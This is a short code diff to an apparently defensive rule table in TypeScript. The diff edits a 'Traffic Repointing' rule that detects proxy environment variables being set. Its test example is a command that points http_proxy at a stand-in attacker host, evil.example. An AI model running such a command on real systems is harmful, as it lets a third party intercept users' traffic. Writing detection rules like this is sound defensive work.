@@ -180,7 +180,7 @@ export const MACHINE: readonly Row[] = [
   {
     label: "Traffic Repointing",
     would: "send what follows through {}",
-    clue: { do: "environment", on: /^(?:https?|all|ftp|no)_proxy$/i, says: /=(?!$)/ },
+    clue: { do: "environment", on: /^(?:https?|all|ftp|no)_proxy$/i, says: /=(?!\?|$)/ },
     match: ["export http_proxy=evil.example:3128"],
     notMatch: ["unset http_proxy"],
   },
